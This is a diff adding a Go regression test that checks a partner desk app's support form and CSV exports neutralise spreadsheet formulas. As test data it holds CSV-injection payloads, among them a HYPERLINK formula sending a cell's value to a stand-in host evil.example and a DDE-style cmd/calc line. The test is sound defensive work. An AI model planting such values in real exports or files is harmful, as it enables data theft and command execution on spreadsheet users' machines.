@@ -7,12 +7,16 @@ import (
 	"context"
 	"log/slog"
 	"net/http"
+	"net/url"
+	"regexp"
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"partnerdesk/internal/app"
 	"partnerdesk/internal/app/apptest"
+	"partnerdesk/internal/demo"
 	"partnerdesk/internal/desk"
 
 	"github.com/labstack/echo/v4"
@@ -113,4 +117,69 @@ func TestLogsNeverHoldSignedLinks(t *testing.T) {
 			}
 		})
 	}
+}
+
+// Finding 4: the support form's order reference is an identifier, and the exports neutralise
+// every cell a spreadsheet would run as a formula, also after leading spaces or tabs, and in
+// every column (the order column was written raw).
+func TestExportsNeutraliseFormulas(t *testing.T) {
+	env := apptest.Start(t)
+	ctx := context.Background()
+	admin := env.SignIn(t, swUsers["admin"])
+	before := cnSupportCount(t, env)
+	for _, ref := range []string{`=HYPERLINK("https://evil.example/?"&A1,"Refund")`, " =1+1", "|calc", "ORDER 1"} {
+		f := cnSupportFields()
+		f.Set("order_ref", ref)
+		res := cnFileSupport(t, env, admin, f)
+		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(testid(doc(t, res.Body), "field-error-order_ref").Text()+res.Body, "order ID or a subscription ID") {
+			t.Errorf("order reference %q: %d, want 422 naming the field", ref, res.StatusCode)
+		}
+	}
+	if n := cnSupportCount(t, env); n != before {
+		t.Fatalf("%d support requests stored from refused forms", n-before)
+	}
+	// Events with formula-like text in every text column (as older data, or any other route,
+	// could hold): the export neutralises each.
+	cells := []string{"=1+1", " +1", "\t-2+3", "@SUM(A1)", "|calc", "%0A", "  =cmd|' /C calc'!A0", "\r=1", "＝1"}
+	for i, v := range cells {
+		actAppend(t, env, desk.Event{At: apptest.Epoch.Add(time.Duration(i) * time.Second), Operation: desk.OpFileSupport, ResourceType: "support_request",
+			CustomerID: apptest.ContosoID, CustomerName: v, ActorEmail: v, Product: v, OrderID: v, IP: "127.0.0.1", Detail: v})
+	}
+	_, recs := actCSV(t, env, env.SignIn(t, swUsers["global"]), url.Values{"from": {"2026-11-25"}, "to": {"2026-11-25"}, "action": {desk.OpFileSupport}})
+	if len(recs)-1 != len(cells) {
+		t.Fatalf("%d rows, want %d", len(recs)-1, len(cells))
+	}
+	for _, r := range recs[1:] {
+		for _, col := range []string{"customerName", "userPrincipalName", "product", "orderId", "detail"} {
+			if v := actCol(t, [][]string{recs[0], r}, 1, col); !strings.HasPrefix(v, "'") {
+				t.Errorf("%s %q is not neutralised", col, v)
+			}
+		}
+	}
+	// The invoice export too: a customer named like a formula, with an order.
+	ga := env.SignIn(t, swUsers["global"])
+	id := actNewCustomer(t, env, ga, "|calc Ltd.", "pipecalc")
+	offer, _ := demoOfferPair(t)
+	o, _, err := env.App.Service.PlaceOrder(ctx, actActor(t, env, swUsers["sales"], "127.0.0.1"), id, "csv-pipe", []desk.CartLine{{OfferID: offer, Quantity: 1}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	res := env.Get(t, env.SignIn(t, swUsers["billing"]), "/billing/invoices/"+desk.InvoiceID(desk.Period(o.CreatedAt), o.Currency)+"/csv")
+	if res.StatusCode != http.StatusOK || !strings.Contains(res.Body, ",'|calc Ltd.,") || strings.Contains(res.Body, ",|calc") {
+		t.Errorf("invoice export: %d, the customer name not neutralised:\n%.600s", res.StatusCode, res.Body)
+	}
+	// Amounts stay plain numbers, credits negative, so that the spreadsheet can add them up.
+	if !regexp.MustCompile(`,-?[0-9]+,-?[0-9]+,-?[0-9]+,HUF,`).MatchString(res.Body) {
+		t.Errorf("invoice amounts are not plain numbers:\n%.600s", res.Body)
+	}
+}
+
+// demoOfferPair is a perpetual Windows Server offer (sold in every market).
+func demoOfferPair(t *testing.T) (string, string) {
+	t.Helper()
+	o, ok := demo.ResolveOffer(demo.Catalog(), "Windows Server 2022 Standard - 2 Core", desk.TermNone)
+	if !ok {
+		t.Fatal("no Windows Server offer")
+	}
+	return o.ID, o.Title
 }
